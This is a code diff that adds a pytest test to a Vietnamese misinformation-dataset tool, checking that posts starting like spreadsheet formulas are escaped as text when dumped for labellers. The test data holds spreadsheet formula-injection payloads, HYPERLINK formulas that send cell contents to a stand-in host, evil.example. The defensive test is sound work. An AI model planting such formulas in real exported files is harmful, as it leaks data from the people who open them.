@@ -3,6 +3,7 @@ label files and the counting. The figures themselves are in docs/nlp.md."""
 
 from __future__ import annotations
 
+import csv
 import re
 from pathlib import Path
 
@@ -185,3 +186,28 @@ def test_the_copy_check_can_fail(sets: dict[str, list[RealPost]]) -> None:
     words = re.findall(r"\w+", post)
     seen = bool(_runs("Nghe nói " + " ".join(words[3:9]) + " nhé") & _runs(post))
     assert seen  # a bare flag: a failure must not print the post
+
+
+def test_dump_writes_formula_cells_as_text(tmp_path: Path) -> None:
+    """The labellers open the dump in a spreadsheet: a post that starts like a formula is text there."""
+    starts = ["=", "+", "-", "@"]  # the reader strips the ends: no tab or CR first
+    ids = [str(n) for n in range(200) if claims_real.even_id(str(n))][: len(starts) + 1]
+    texts = [
+        f'{s}HYPERLINK("https://evil.example/?"&A{n},"Covid-19: tiêm vắc xin ngừa virus corona")'
+        for n, s in enumerate(starts)
+    ]
+    texts.append("Bộ Y tế: tiêm vắc xin Covid-19 an toàn, virus corona không lây qua sóng 5G")
+    reintel = tmp_path / "datasets" / "reintel"
+    reintel.mkdir(parents=True)
+    with (reintel / "train.csv").open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.writer(fh)
+        writer.writerow(["id", "post_message", "label"])
+        writer.writerows([i, t, "1"] for i, t in zip(ids, texts, strict=True))
+    (reintel / "unlabeled.csv").write_text("id,post_message\n", encoding="utf-8")
+    out = tmp_path / "dev.tsv"
+    assert claims_real.dump("dev", out, tmp_path / "datasets") == len(texts)
+    with out.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh, delimiter="\t"))
+    shown = {row["id"]: row["text"] for row in rows}
+    for post_id, text in zip(ids, texts, strict=True):
+        assert shown[post_id] == (text if text[0].isalpha() else "'" + text), shown[post_id]
